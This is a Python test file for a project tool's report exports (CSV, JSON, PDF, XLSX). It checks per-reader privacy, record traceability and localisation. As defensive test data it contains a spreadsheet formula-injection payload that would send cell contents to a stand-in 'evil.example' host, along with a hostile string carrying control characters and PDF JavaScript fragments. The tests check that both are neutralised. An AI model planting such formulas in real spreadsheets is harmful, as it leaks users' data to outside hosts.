"""The record of a project as files: whose view it is, what its figures rest on; nothing in it is lost or run."""

import csv
import io
import json
import re
from dataclasses import replace
from datetime import timedelta
from typing import Any
from zipfile import ZipFile

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook
from pypdf import PdfReader

from mailflow.domain.people import Role
from mailflow.domain.project import Ref
from mailflow.domain.record import Record
from mailflow.domain.snapshot import Snapshot
from mailflow.letters.sample_project import CODE, DANA, LEE, MO, NOW, OLIVIA, sample
from mailflow.report.cells import LONGEST, as_rows, pieces, would_calculate
from mailflow.report.csv_file import csv_file
from mailflow.report.facts import ReportFacts, report_facts
from mailflow.report.fonts import Fonts, installed
from mailflow.report.formats import FORMATS, file_name
from mailflow.report.json_file import json_file
from mailflow.report.pdf_file import pdf_file
from mailflow.report.tables import heading, tables, terms
from mailflow.report.xlsx_file import xlsx_file
from mailflow.shipped import catalogues
from tests.languages import catalogues as known

SECRET = "The price is not right for me"
FORMULA = '=HYPERLINK("http://evil.example?"&A1)'


def record(seq: int, kind: str, person: str | None, number: int = 3, **data: Any) -> Record:
    about = Ref(CODE, "milestone", number, seq)
    return Record(seq, NOW - timedelta(hours=100 - seq), kind, about, person, message=seq, data=data)


LEDGER = (
    record(1, "done", "dana", 1),
    record(2, "approve", "olivia", 1),
    record(3, "undo", "olivia", 1),
    record(4, "approve", "olivia", 1, text="lovely"),
    record(5, "paid", "olivia", 1, text="transfer 2026-117"),
    record(6, "note", "dana", 3, text=SECRET),
    record(7, "progress", "lee", 5, percent=40, text="Cards work, Привіт", shared=True),
    record(8, "revise", "olivia", 3, corrections=["Hero text too small", "Footer"]),
    record(9, "note", "dana", 3, text=FORMULA),
    record(10, "broadcast", "olivia", 3, text="We launch on the 22nd."),
)
RECORDS = (LEDGER[0], LEDGER[1], replace(LEDGER[2], undoes=2), *LEDGER[3:9], replace(LEDGER[9], about=Ref(CODE)))


def told(reader: Any = OLIVIA, records: tuple[Record, ...] = RECORDS, snapshot: Snapshot | None = None) -> ReportFacts:
    return report_facts(snapshot or sample(), records, reader)


def text_of(kind: str, facts: ReportFacts) -> str:
    """Everything that somebody reads in that file."""
    content = FORMATS[kind](facts)
    if kind == "pdf":
        return "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(content)).pages)
    if kind == "xlsx":
        return "\n".join(str(c.value) for s in load_workbook(io.BytesIO(content)) for r in s.rows for c in r if c.value)
    return content.decode("utf-8-sig")


@pytest.mark.parametrize("kind", FORMATS)
def test_an_owner_reads_what_was_said_and_decided(kind: str) -> None:
    text = text_of(kind, told())
    for words in (SECRET, "Hero text too small", "transfer 2026-117", "We launch on the 22nd."):
        assert words in text


@pytest.mark.parametrize("kind", FORMATS)
def test_a_contractor_reads_nothing_that_was_between_others(kind: str) -> None:
    text = text_of(kind, told(LEE))
    for words in (SECRET, "Hero text too small", "transfer 2026-117", "1,200", "1200"):
        assert words not in text
    for words in ("Cards work", "We launch on the 22nd."):
        assert words in text


@pytest.mark.parametrize("kind", FORMATS)
def test_a_contractor_reads_their_own(kind: str) -> None:
    text = text_of(kind, told(DANA))
    assert SECRET in text
    assert "Hero text too small" in text


def test_amounts_are_the_owners_and_each_contractors_own() -> None:
    amounts = {who.id: {m["number"] for m in read(told(who))["milestones"] if m["amount"]} for who in (OLIVIA, DANA)}
    assert amounts["olivia"] == {1, 2, 3, 4, 5, 6}
    assert amounts["dana"] == {n for n, m in sample().milestones.items() if m.assignee == "dana"}
    observed = replace(
        sample(), members={**sample().members, "mo": replace(sample().members["mo"], role=Role.OBSERVER)}
    )
    seen = read(told(MO, snapshot=observed))
    assert seen["money"] == []
    assert all(one["amount"] is None for one in seen["milestones"])


def test_who_takes_a_milestone_over_does_not_read_what_was_between_others_before() -> None:
    plan = record(1, "milestone", None, 3, assignee="dana", title="Homepage")
    ledger = (
        replace(plan, message=None),
        record(2, "note", "dana", 3, text=SECRET),
        replace(record(3, "assign", "olivia", 3), data={"person": "lee"}),
    )
    snapshot = replace(sample(), milestones={**sample().milestones, 3: replace(sample().milestones[3], assignee="lee")})
    assert SECRET not in json_file(told(LEE, ledger, snapshot)).decode()
    assert SECRET in json_file(told(DANA, ledger, snapshot)).decode()


def read(facts: ReportFacts) -> Any:
    return json.loads(json_file(facts))


def test_each_figure_names_the_records_that_it_rests_on() -> None:
    found = read(told())
    assert found["finished"] == {"count": 1, "of": 7, "milestones": [1], "records": [4]}
    (money,) = found["money"]
    assert (money["approved_by"], money["paid_by"], money["paid"]) == ([4], [5], "800.00")
    assert found["milestones"][0]["records"] == [1, 2, 4, 5]
    by_number = {one["record"]: one for one in found["history"]}
    assert (by_number[2]["taken_back"], by_number[4]["taken_back"]) == (True, False)


def test_an_approval_that_was_taken_back_is_no_approval() -> None:
    found = read(told(records=RECORDS[:3]))
    assert found["milestones"][0]["approved"] is None


@pytest.mark.parametrize("kind", FORMATS)
def test_the_same_record_makes_the_same_file(kind: str) -> None:
    assert FORMATS[kind](told()) == FORMATS[kind](told())


def test_every_date_in_a_file_is_the_records() -> None:
    with ZipFile(io.BytesIO(xlsx_file(told()))) as book:
        assert {entry.date_time[0] for entry in book.infolist()} == {1980}
        assert RECORDS[-1].at.strftime("%Y-%m-%dT%H:%M:%SZ").encode() in book.read("docProps/core.xml")
    assert PdfReader(io.BytesIO(pdf_file(told(), installed()))).metadata.creation_date == RECORDS[-1].at  # type: ignore[union-attr]


def test_no_cell_is_a_formula() -> None:
    rows = list(csv.reader(io.StringIO(csv_file(told()).decode("utf-8-sig"))))
    assert f"'{FORMULA}" in {cell for row in rows for cell in row}
    cells = [cell for sheet in load_workbook(io.BytesIO(xlsx_file(told()))) for row in sheet.rows for cell in row]
    assert {cell.data_type for cell in cells if cell.value is not None} <= {"s", "inlineStr"}
    assert not [cell for cell in cells if cell.hyperlink]
    (risky,) = (cell for cell in cells if cell.value == FORMULA)
    assert risky.quotePrefix


@pytest.mark.parametrize("text", ["=1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "  =1", "＝1"])
def test_what_a_spreadsheet_would_calculate_is_known(text: str) -> None:
    assert would_calculate(text)


@pytest.mark.parametrize("text", ["", "3 = done", "a-b", "42", "'=1"])
def test_other_text_stays_as_it_is(text: str) -> None:
    assert not would_calculate(text)


@given(st.text(max_size=200), st.integers(1, 3))
def test_a_long_text_goes_on_in_the_next_row(text: str, times: int) -> None:
    long = (text or "a") * (LONGEST * times // max(len(text), 1) + 1)
    assert "".join(pieces(long)) == long
    assert "".join(row[1] for row in as_rows(("1", long))) == long
    assert all(len(one) <= LONGEST for one in pieces(long))


def test_letters_that_no_font_has_stand_as_their_numbers() -> None:
    facts = told(records=(record(1, "note", "dana", 3, text="हिन्दी, Київ, €"),))
    text = "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(pdf_file(facts, Fonts()))).pages)
    assert "[U+0939]" in text
    assert "[U+041A]" in text
    assert "stand as their Unicode numbers" in text


@pytest.mark.skipif(installed().regular is None, reason="no font of this machine has Cyrillic letters")
def test_cyrillic_letters_are_letters() -> None:
    text = text_of("pdf", told())
    assert "Привіт" in text
    assert "U+0" not in text


@pytest.mark.parametrize("kind", FORMATS)
def test_nothing_that_people_write_breaks_a_file(kind: str) -> None:
    hostile = "\x00\x1b[31m\ud800\u202eevil <b>&amp;</b> )] >> endobj /JS (alert) \U0001f389\u0301\u200d" + "x" * 40_000
    ledger = (record(1, "note", "dana", 3, text=hostile), record(2, "note", "dana", 3, text=""))
    named = replace(
        sample(), title=hostile[:300], milestones={3: replace(sample().milestones[3], title=hostile[:5000])}
    )
    text = text_of(kind, told(records=ledger, snapshot=named))
    assert "evil" in text
    assert not set("\x00\x1b\u202e") & set(text)


@pytest.mark.parametrize("kind", FORMATS)
def test_an_empty_project_has_a_report(kind: str) -> None:
    assert FORMATS[kind](report_facts(Snapshot(CODE, people={"dana": DANA}), (), DANA))


def test_a_file_is_named_after_the_project_and_its_last_record() -> None:
    assert file_name(told(), "pdf") == "acme-site-record-40.pdf"


COLUMNS = {"milestones": (4,), "history": (4, 6), "people": (1,)}
SAME = {"Name", "Version", "Conditions", "Version 3"}
"""Words that some language shares with English."""


def said_in(language: str) -> set[str]:
    """Every head, title and state of the report's tables and summary."""
    facts = told(replace(OLIVIA, language=language))
    facts = replace(facts, catalogue=catalogues().for_reader(language), state="closed")
    cells = [row[place] for one in tables(facts) for row in one.rows for place in COLUMNS.get(one.name, ())]
    heads = [text for one in tables(facts) for text in (one.title, *one.columns)]
    return {one for one in (*cells, *heads, *heading(facts)[:2], *(title for title, _ in terms(facts))) if one}


@pytest.mark.parametrize("language", known.languages())
def test_a_report_is_in_its_readers_language(language: str) -> None:
    written = {one for one in said_in("en") & said_in(language) if re.search(r"[A-Za-z]{2}", one)}
    assert written - SAME <= set(re.findall(r"'([^']*)'", repr(sample())))


@pytest.mark.parametrize("language", known.languages())
def test_a_workbook_has_sheets_in_any_language(language: str) -> None:
    facts = replace(told(), catalogue=catalogues().for_reader(language))
    book = load_workbook(io.BytesIO(xlsx_file(facts)))
    assert len(book.sheetnames) == 1 + len(tables(facts))
    assert all(len(name) <= 31 for name in book.sheetnames)


def test_names_in_the_json_are_the_same_in_every_language() -> None:
    def names(value: Any) -> set[str]:
        if isinstance(value, list):
            return {name for one in value for name in names(one)}
        if isinstance(value, dict):
            return {*value, *(name for one in value.values() for name in names(one))}
        return set()

    german = replace(told(), catalogue=catalogues().for_reader("de"))
    assert names(read(german)) == names(read(told()))
    assert read(german)["history"][0]["says"] != read(told())["history"][0]["says"]
